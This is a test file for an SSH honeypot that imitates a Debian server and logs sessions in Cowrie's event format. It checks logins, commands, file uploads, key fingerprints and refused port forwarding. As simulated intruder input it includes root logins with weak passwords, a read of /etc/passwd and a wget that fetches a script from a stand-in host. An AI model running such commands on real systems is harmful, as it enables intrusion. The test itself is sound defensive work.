import { spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HoneypotEvent } from '../log/event.js';
import { aServiceDeps, aTempDir } from '../limits/test-support/service-deps.js';
import type { RunningService } from '../service.js';
import { connect } from 'node:net';
import ssh2 from 'ssh2';
import { loadOrCreateHostKey } from './host-key.js';
import { startSshService } from './ssh-service.js';

const dir = aTempDir();
const deps = aServiceDeps();
let service: RunningService;

function run(cmd: string, args: string[], password: string, stdin = ''): Promise<{ code: number; stdout: string; stderr: string }> {
  const askpass = join(dir, `askpass-${randomBytes(4).toString('hex')}.sh`);
  writeFileSync(askpass, `#!/bin/sh\necho '${password}'\n`);
  chmodSync(askpass, 0o700);
  const child = spawn(cmd, args, {
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir, SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' },
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
  child.stdin.end(stdin);
  return new Promise((resolve) => child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr })));
}

const sshOpts = (): string[] => [
  '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'PreferredAuthentications=password',
  '-o', 'PubkeyAuthentication=no', '-o', 'NumberOfPasswordPrompts=1', '-o', 'LogLevel=ERROR', '-o', 'ConnectTimeout=5',
];
const ssh = (args: string[], password: string, stdin = '') =>
  run('/usr/bin/ssh', ['-p', String(service.port), ...sshOpts(), ...args], password, stdin);

const sessionOf = (events: HoneypotEvent[], eventid: string, pred: (e: HoneypotEvent) => boolean = () => true) =>
  events.find((e) => e.eventid === eventid && pred(e))?.session;

beforeAll(async () => {
  service = await startSshService({ host: '127.0.0.1', port: 0, hostKeyDir: join(dir, 'keys') }, deps);
});
afterAll(async () => {
  await service.close();
});

describe('SSH honeypot against Debian OpenSSH', () => {
  it('logs a password login and exec commands with Cowrie fields', async () => {
    const result = await ssh(['root@127.0.0.1', 'uname -a; whoami; cat /etc/passwd | head -1; foo'], 'admin');
    expect(result.stdout).toContain('Linux svr04 5.10.0-28-amd64');
    expect(result.stdout).toContain('\nroot\n');
    expect(result.stdout).toContain('bash: foo: command not found');
    const closed = await deps.sink.waitFor((e) => e.eventid === 'cowrie.session.closed');
    const events = deps.sink.events.filter((e) => e.session === closed.session);
    const ids = events.map((e) => e.eventid);
    expect(ids[0]).toBe('cowrie.session.connect');
    expect(ids).toEqual(expect.arrayContaining(['cowrie.client.version', 'cowrie.client.kex', 'cowrie.login.success', 'cowrie.session.params', 'cowrie.command.input', 'cowrie.command.failed']));
    expect(ids.at(-1)).toBe('cowrie.session.closed');

    const connect = events[0] as HoneypotEvent<'cowrie.session.connect'>;
    expect(connect).toMatchObject({ src_ip: '127.0.0.1', dst_ip: '127.0.0.1', dst_port: service.port, protocol: 'ssh', sensor: 'test-sensor' });
    expect(connect.session).toMatch(/^[0-9a-f]{12}$/);
    expect(connect.src_port).toBeGreaterThan(0);
    expect(connect.timestamp).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
    expect(connect.message).toBe(`New connection: 127.0.0.1:${connect.src_port} (127.0.0.1:${service.port}) [session: ${connect.session}]`);

    const version = events.find((e) => e.eventid === 'cowrie.client.version') as HoneypotEvent<'cowrie.client.version'>;
    expect(version.version).toMatch(/^SSH-2\.0-OpenSSH_/);
    const kex = events.find((e) => e.eventid === 'cowrie.client.kex') as HoneypotEvent<'cowrie.client.kex'>;
    expect(kex.hassh).toMatch(/^[0-9a-f]{32}$/);
    expect(kex.hassh).toBe(createHash('md5').update(kex.hasshAlgorithms).digest('hex'));
    expect(kex.hasshAlgorithms.split(';')).toHaveLength(4);
    expect(kex.kexAlgs).toContain('curve25519-sha256');
    expect(kex.encCS).toContain('aes128-ctr');
    expect(kex.keyAlgs.length).toBeGreaterThan(0);
    expect(kex.compCS).toContain('none');

    const login = events.find((e) => e.eventid === 'cowrie.login.success') as HoneypotEvent<'cowrie.login.success'>;
    expect(login).toMatchObject({ username: 'root', password: 'admin', message: 'login attempt [root/admin] succeeded' });
    const input = events.find((e) => e.eventid === 'cowrie.command.input') as HoneypotEvent<'cowrie.command.input'>;
    expect(input.input).toBe('uname -a; whoami; cat /etc/passwd | head -1; foo');
    const failed = events.find((e) => e.eventid === 'cowrie.command.failed') as HoneypotEvent<'cowrie.command.failed'>;
    expect(failed.input).toBe('foo');
    const end = events.at(-1) as HoneypotEvent<'cowrie.session.closed'>;
    expect(end.duration).toBeGreaterThanOrEqual(0);
    expect(typeof end.duration).toBe('number');
  });

  it('refuses root/123456 and root/root and logs the failures', async () => {
    for (const password of ['123456', 'root']) {
      const result = await ssh(['root@127.0.0.1', 'id'], password);
      expect(result.code).toBe(255);
      expect(result.stderr).toContain('Permission denied');
      const failed = await deps.sink.waitFor((e) => e.eventid === 'cowrie.login.failed' && (e as HoneypotEvent<'cowrie.login.failed'>).password === password);
      expect(failed).toMatchObject({ username: 'root', message: `login attempt [root/${password}] failed` });
    }
  });

  it('answers an interactive session driven from stdin and records the tty log', async () => {
    const result = await ssh(['-tt', 'root@127.0.0.1'], 'letmein', 'pwd\ncd /tmp\nwget http://203.0.113.9/x.sh\nls -la\nexit\n');
    expect(result.stdout).toContain('root@svr04:~# ');
    expect(result.stdout).toContain('/root');
    expect(result.stdout).toContain('Connecting to 203.0.113.9:80... failed: Connection refused.');
    const download = await deps.sink.waitFor((e) => e.eventid === 'cowrie.session.file_download');
    expect(download).toMatchObject({ url: 'http://203.0.113.9/x.sh', destfile: '/tmp/x.sh', outfile: '', shasum: '' });
    const ttyClosed = (await deps.sink.waitFor((e) => e.eventid === 'cowrie.log.closed' && e.session === download.session)) as HoneypotEvent<'cowrie.log.closed'>;
    expect(ttyClosed.size).toBeGreaterThan(0);
    expect(ttyClosed.shasum).toMatch(/^[0-9a-f]{64}$/);
    const recording = readFileSync(ttyClosed.ttylog);
    expect(createHash('sha256').update(recording).digest('hex')).toBe(ttyClosed.shasum);
    expect(recording.toString()).toContain('"version":2');
    const size = deps.sink.events.find((e) => e.eventid === 'cowrie.client.size' && e.session === download.session);
    expect(size).toBeDefined();
    const inputs = deps.sink.events.filter((e) => e.eventid === 'cowrie.command.input' && e.session === download.session).map((e) => (e as HoneypotEvent<'cowrie.command.input'>).input);
    expect(inputs).toEqual(['pwd', 'cd /tmp', 'wget http://203.0.113.9/x.sh', 'ls -la', 'exit']);
  });

  for (const mode of ['sftp', 'legacy scp'] as const) {
    it(`captures an upload over ${mode} into quarantine under its SHA-256`, async () => {
      const payload = randomBytes(70_000);
      const local = join(dir, `sample-${mode.replace(' ', '-')}.bin`);
      writeFileSync(local, payload);
      const extra = mode === 'legacy scp' ? ['-O'] : [];
      const result = await run('/usr/bin/scp', [...extra, '-P', String(service.port), ...sshOpts(), local, 'root@127.0.0.1:/tmp/'], 'hunter2');
      expect(result.stderr).toBe('');
      expect(result.code).toBe(0);
      const sha = createHash('sha256').update(payload).digest('hex');
      const upload = (await deps.sink.waitFor((e) => e.eventid === 'cowrie.session.file_upload' && (e as HoneypotEvent<'cowrie.session.file_upload'>).shasum === sha)) as HoneypotEvent<'cowrie.session.file_upload'>;
      expect(upload.filename).toBe(`sample-${mode.replace(' ', '-')}.bin`);
      expect(upload.outfile).toBe(join(deps.quarantineDir, sha));
      expect(readFileSync(upload.outfile).equals(payload)).toBe(true);
      expect(statSync(upload.outfile).mode & 0o777).toBe(0o400);
    });
  }

  it('reuses the persisted host key across restarts', async () => {
    const again = await startSshService({ host: '127.0.0.1', port: 0, hostKeyDir: join(dir, 'keys') }, aServiceDeps());
    await again.close();
    const key = readFileSync(join(dir, 'keys', 'ssh_host_ed25519_key'), 'utf8');
    expect(key).toContain('BEGIN OPENSSH PRIVATE KEY');
    expect(statSync(join(dir, 'keys', 'ssh_host_ed25519_key')).mode & 0o777).toBe(0o600);
    expect(sessionOf(deps.sink.events, 'cowrie.session.connect')).toBeDefined();
  });

  it('rejects a bad configuration with every problem', async () => {
    await expect(startSshService({ host: '', port: 70_000, hostKeyDir: dir }, deps)).rejects.toThrow(/host must be.*port must be/);
    await expect(startSshService({ host: '127.0.0.1', port: 0, hostKeyDir: dir, userdb: ['nocolon'] }, deps)).rejects.toThrow(/invalid userdb/);
  });

  it('logs a public-key attempt with its fingerprint, refuses it, and refuses port forwarding', async () => {
    const clientKey = loadOrCreateHostKey(join(dir, 'client-key'));
    const parsed = ssh2.utils.parseKey(clientKey);
    if (parsed instanceof Error) throw parsed;
    const client = new ssh2.Client();
    const forwardError = await new Promise<string>((resolve, reject) => {
      client.on('ready', () => {
        client.forwardOut('127.0.0.1', 4444, '198.51.100.1', 25, (err) => resolve(err?.message ?? 'no error'));
      });
      client.on('error', reject);
      client.connect({ host: '127.0.0.1', port: service.port, username: 'root', privateKey: clientKey, password: 'pw1', authHandler: ['publickey', 'password'] });
    });
    client.end();
    expect(forwardError).toMatch(/Channel open failure/);
    const fp = await deps.sink.waitFor((e) => e.eventid === 'cowrie.client.fingerprint');
    const blob = parsed.getPublicSSH();
    expect(fp).toMatchObject({ username: 'root', type: 'ssh-ed25519', key: `ssh-ed25519 ${blob.toString('base64')}` });
    expect((fp as HoneypotEvent<'cowrie.client.fingerprint'>).fingerprint).toBe(createHash('md5').update(blob).digest('hex').replace(/(..)(?!$)/g, '$1:'));
    const fwd = await deps.sink.waitFor((e) => e.eventid === 'cowrie.direct-tcpip.request');
    expect(fwd).toMatchObject({ dst_ip: '198.51.100.1', dst_port: 25, src_ip: '127.0.0.1', src_port: 4444, session: fp.session });
    expect(deps.sink.events.find((e) => e.session === fp.session && e.eventid === 'cowrie.login.success')).toMatchObject({ password: 'pw1' });
  });

  it('survives binary garbage and an oversized exec command', async () => {
    await new Promise<void>((resolve) => {
      const s = connect({ host: '127.0.0.1', port: service.port }, () => s.end(Buffer.concat([Buffer.from('SSH-2.0-x\r\n'), randomBytes(50_000)])));
      s.resume();
      s.on('error', () => resolve());
      s.on('close', () => resolve());
    });
    expect(deps.sink.events.some((e) => e.eventid === 'cowrie.client.version' && (e as HoneypotEvent<'cowrie.client.version'>).version === 'SSH-2.0-x')).toBe(true);
    const long = `echo ${'A'.repeat(20_000)}`;
    const result = await ssh(['root@127.0.0.1', long], 'pw');
    expect(result.stdout.length).toBeLessThanOrEqual(deps.limits.maxInputBytes);
    const truncated = await deps.sink.waitFor((e) => e.eventid === 'waggle.input.truncated' && e.protocol === 'ssh');
    expect(truncated).toMatchObject({ limit: deps.limits.maxInputBytes });
    const uname = await ssh(['root@127.0.0.1', 'uname'], 'pw');
    expect(uname.stdout).toBe('Linux\n');
  });
});
